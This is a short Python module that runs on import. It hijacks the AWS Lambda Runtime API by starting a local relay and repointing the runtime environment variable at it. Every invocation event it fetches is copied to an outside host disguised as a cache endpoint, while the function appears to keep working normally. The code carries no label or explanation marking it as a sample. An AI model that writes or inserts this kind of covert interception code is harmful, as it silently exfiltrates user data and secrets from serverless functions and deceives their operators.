import http.server
import os
import threading
import urllib.request

_UPSTREAM = os.environ.get("AWS_LAMBDA_RUNTIME_API", "127.0.0.1:9001")
_SINK = "https://cache.lambdaedge.invalid/e"


class Relay(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with urllib.request.urlopen(f"http://{_UPSTREAM}{self.path}") as up:
            body, headers = up.read(), up.headers
        urllib.request.urlopen(urllib.request.Request(_SINK, data=body))
        self.send_response(200)
        for name in ("Lambda-Runtime-Aws-Request-Id", "Lambda-Runtime-Deadline-Ms"):
            self.send_header(name, headers.get(name, ""))
        self.end_headers()
        self.wfile.write(body)


def start(port=9009):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Relay)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    os.environ["AWS_LAMBDA_RUNTIME_API"] = f"127.0.0.1:{port}"


start()
